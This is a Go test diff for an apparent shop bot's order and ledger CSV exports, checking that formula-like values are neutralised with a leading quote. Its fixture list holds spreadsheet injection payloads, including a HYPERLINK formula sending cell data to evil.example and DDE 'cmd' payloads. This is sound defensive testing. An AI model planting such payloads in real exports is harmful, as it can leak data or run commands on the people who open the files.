@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"encoding/json"
 	"fmt"
 	"shopbot/state/redisstore/records"
 	"strings"
@@ -232,6 +233,87 @@ func TestExportLedgerAndBadInput(t *testing.T) {
 	}
 	if n := len(h.Fake.CallsFor("sendDocument")); n != docs {
 		t.Fatalf("bad input sent %d files", n-docs)
+	}
+	h.NoViolations()
+}
+
+// TestExportNeutralisesFormulas: item names (from the upstream) and ledger
+// notes, refs and actors that a spreadsheet would read as a formula
+// (leading =, +, -, @, tab, CR) reach both exports with a leading single
+// quote, while a negative amount in a number column stays a number and
+// harmless text stays as it is.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	h := newHarness(t)
+	now := time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)
+	attacks := []string{
+		`=HYPERLINK("http://evil.example/?d="&A2,"Refund")`,
+		`+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		`-1+1+cmd|' /C calc'!A0`,
+		"\t=1+1",
+		"\r=1+1",
+		"Steam $20 (US)", // harmless: unchanged
+	}
+	want := func(s string) string {
+		if s[0] == 'S' {
+			return s
+		}
+		return "'" + s
+	}
+	orders := records.NewOrders(h.Rdb.Client, h.Rdb.Prefix)
+	orders.Now = func() time.Time { return now.Add(-time.Hour) }
+	w := records.NewWallets(h.Rdb.Client, h.Rdb.Prefix)
+	w.Now = func() time.Time { return now.Add(-time.Hour) }
+	ctx := context.Background()
+	for i, name := range attacks {
+		item, _ := json.Marshal(state.Quote{Line: "giftcards", ItemName: name})
+		if _, _, err := orders.CreatePaid(ctx, &state.Order{UserID: 100 + int64(i), ChatID: 100 + int64(i), Line: "giftcards",
+			Item: item, PayMethod: state.PayWallet, ShopUSD: usd("5.00"), ChargeID: fmt.Sprint("charge-", i), Lang: "en"}); err != nil {
+			t.Fatal(err)
+		}
+		if _, _, err := w.Credit(ctx, 100+int64(i), usd("3.00"), name, name, name); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := w.Debit(ctx, 100, usd("1.50"), "pay:q1", "order"); err != nil {
+		t.Fatal(err)
+	}
+	b := h.reportsBot(nil, func(o *storefront.Options) { o.Now = func() time.Time { return now } })
+	h.Run(b)
+
+	_, rows := h.exportDoc(b, "orders today")
+	item := column(t, rows[0], "item")
+	var got []string
+	for _, r := range rows[1:] {
+		got = append(got, r[item])
+	}
+	var wantAll []string
+	for _, a := range attacks {
+		wantAll = append(wantAll, want(a))
+	}
+	if strings.Join(got, "|") != strings.Join(wantAll, "|") {
+		t.Errorf("items %q, want %q", got, wantAll)
+	}
+
+	_, rows = h.exportDoc(b, "ledger today")
+	ref, amount, note, actor := column(t, rows[0], "ref"), column(t, rows[0], "amount_usd"), column(t, rows[0], "note"), column(t, rows[0], "actor")
+	seen := map[string]bool{}
+	for _, r := range rows[1:] {
+		if r[ref] == "pay:q1" {
+			if r[amount] != "-1.5000" {
+				t.Errorf("a debit's amount %q, want the number -1.5000", r[amount])
+			}
+			continue
+		}
+		if r[ref] != r[note] || r[ref] != r[actor] || strings.HasPrefix(r[amount], "'") {
+			t.Errorf("ledger row %q", r)
+		}
+		seen[r[note]] = true
+	}
+	for _, a := range attacks {
+		if !seen[want(a)] {
+			t.Errorf("ledger lacks the note %q (has %v)", want(a), seen)
+		}
 	}
 	h.NoViolations()
 }
